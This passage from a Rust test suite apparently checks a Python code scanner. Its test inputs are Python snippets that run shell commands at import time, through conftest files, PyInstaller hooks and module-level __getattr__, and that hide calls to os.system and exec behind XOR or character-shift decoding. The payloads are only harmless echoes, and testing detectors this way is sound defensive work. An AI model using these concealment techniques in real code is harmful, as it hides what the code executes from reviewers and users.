        ("pickle-alias", "from os import path\nimport pickle as pkl\ndef load(p):\n    with open(p, 'rb') as f:\n        return pkl.load(f)\n"),
        ("request-alias", "import urllib.request as request\ndef fetch(u):\n    return request.urlopen(u).read()\n"),
        ("list-of-builtins", "L = [len, print]\nL[1]('x')\n"),
        ("dict-store-print", "D = {}\nD['k'] = print\nD['k']('x')\n"),
        ("sorted-len", "xs = sorted(['b', 'a'], key=len)\n"),
        ("global-counter", "n = 0\ndef bump():\n    global n\n    n = n + 1\nbump()\n"),
    ];
    let mut failures = Vec::new();
    for (case, src) in cases {
        let r = scan("mod.py", src);
        if r.findings.iter().any(|f| f.severity >= Severity::Medium) {
            failures.push(format!("{case}: {:#?}", summary(&r)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Modules a tool runs and no import does are test modules for the promotion of helper calls:
/// a `conftest.py` anywhere (pytest loads it), tests in a `__tests__` folder, and PyInstaller's
/// hooks (`hooks/hook-*.py`, `rthooks/pyi_rth_*.py`), which PyInstaller runs while it freezes
/// an application. A file named like a hook outside a hooks folder is a module.
#[test]
fn conftest_files_and_pyinstaller_hooks_promote_only_direct_calls() {
    let chain = "import os, subprocess\ndef try_run(cmd):\n    null = open(os.devnull, 'w')\n    return subprocess.call(cmd, stdout=null, shell=True)\ndef run_test(cmd):\n    return try_run(cmd)\ndef feasible():\n    return run_test('cc --version')\nOK = feasible()\n";
    let dir = tempfile::tempdir().expect("tempdir");
    let at = |rel: &str| {
        let p = dir.path().join(rel);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(&p, chain).expect("write");
        worst(&scan_file(&p, BudgetLimits::default()), SHELL)
    };
    for tool_run in [
        "pkg/conftest.py",
        "pkg/__tests__/e2e/test_api.py",
        "PyInstaller/hooks/hook-PyQt5.QtNetwork.py",
        "PyInstaller/hooks/rthooks/pyi_rth_qt.py",
        "pkg/__pyinstaller/hook-pkg.py",
    ] {
        assert_eq!(at(tool_run), Some(Severity::Low), "{tool_run}");
    }
    for module in [
        "pkg/hook-setup.py",
        "pkg/__tests__/helpers.py",
        "pkg/conftest_utils.py",
    ] {
        assert_eq!(at(module), Some(Severity::High), "{module}");
    }
}

/// PEP 562: a module-level `__getattr__` runs at the first access of a name the module lacks,
/// which its importers make at once; a shell command in it runs at load (high). A method of
/// that name and a lazy loader that only imports stay below.
#[test]
fn a_module_getattr_runs_at_load() {
    let dir = tempfile::tempdir().expect("tempdir");
    let scan = |name: &str, src: &str| {
        let p = dir.path().join(name);
        std::fs::write(&p, src).expect("write");
        scan_file(&p, BudgetLimits::default())
    };
    let r = scan(
        "hook.py",
        "import os\ndef __getattr__(name):\n    os.system('echo airlock-test')\n    raise AttributeError(name)\n",
    );
    assert_eq!(worst(&r, SHELL), Some(Severity::High), "{:#?}", summary(&r));
    // In a module larger than the prefilter parses whole, placed by the layout scan.
    let mut big = String::from("import os\n");
    for i in 0..400 {
        big.push_str(&format!("def helper_{i}(x):\n    return x + {i}\n"));
    }
    big.push_str("def __getattr__(name):\n    os.system('echo airlock-test')\n");
    assert!(big.len() > 8 * 1024);
    let r = scan("big.py", &big);
    assert_eq!(worst(&r, SHELL), Some(Severity::High), "{:#?}", summary(&r));
    let r = scan(
        "method.py",
        "import os\nclass Lazy:\n    def __getattr__(self, name):\n        os.system('echo airlock-test')\n",
    );
    assert_eq!(worst(&r, SHELL), Some(Severity::Low), "{:#?}", summary(&r));
    let r = scan(
        "lazy.py",
        "import importlib\ndef __getattr__(name):\n    return importlib.import_module('.' + name, __name__)\n",
    );
    assert!(
        r.worst().is_none_or(|w| w < Severity::Medium),
        "{:#?}",
        summary(&r)
    );
}

/// A callable picked by a name a transform the table does not model computes (XOR, a
/// character shift, a decoder function), out of a module that runs code or one imported by a
/// computed name, and called at module level, is high: which function runs is hidden (tester
/// t27 t4, clean before while the same line in a `.pth` was high). In a function it is low;
/// a picked callable that is not called, or a constant name, is not this rule.
#[test]
fn callables_picked_by_a_computed_name_from_running_modules() {
    let xor = "d = lambda s: ''.join(chr(ord(c) ^ 42) for c in s)\n";
    let def = "def d(s):\n    return ''.join(chr(ord(c) ^ 42) for c in s)\n";
    let cases: Vec<(&str, String, &str, Severity)> = vec![
        (
            "getattr os, lambda",
            format!("import os\n{xor}getattr(os, d('YSY^OG'))('echo hi')\n"),
            "python-exec-computed",
            Severity::High,
        ),
        (
            "getattr __import__, def",
            format!("{def}getattr(__import__(d('EY')), d('YSY^OG'))('echo hi')\n"),
            "python-exec-computed",
            Severity::High,
        ),
        (
            "getattr builtins",
            format!("import builtins\n{xor}getattr(builtins, d('OROI'))(d('CGZEX^'))\n"),
            "python-exec-computed",
            Severity::High,
        ),
        (
            "shift inline",
            "getattr(__import__(''.join(chr(ord(c)-1) for c in 'pt')), ''.join(chr(ord(c)-1) for c in 'tztufn'))('echo hi')\n".to_string(),
            "python-exec-computed",
            Severity::High,
        ),
        (
            "importlib",
            format!("import importlib\n{xor}getattr(importlib.import_module(d('Y_HZXEIOYY')), d('MO^E_^Z_^'))('echo hi')\n"),
            "python-exec-computed",
            Severity::High,
        ),
    ];
    check(&cases);
    // In a function: low. Not called, or a constant name, or a module that runs no code: not
    // this rule.
    let low = scan(
        "mod.py",
        &format!("import os\n{xor}def f(n, p):\n    return getattr(os, d(n))(p)\n"),
    );
    assert_eq!(
        worst(&low, "python-exec-computed"),
        Some(Severity::Low),
        "{:?}",
        summary(&low)
    );
    for src in [
        format!("import os\n{xor}f = getattr(os, d('YSY^OG'), None)\n"),
        "import os\nn = os.cpu_count()\nprint(getattr(os, 'sep'))\n".to_string(),
        format!("import math\n{xor}getattr(math, d('YS'))(1)\n"),
    ] {
        let r = scan("mod.py", &src);
        assert_eq!(
            worst(&r, "python-exec-computed"),
            None,
            "{src}: {:?}",
            summary(&r)
        );
    }
}
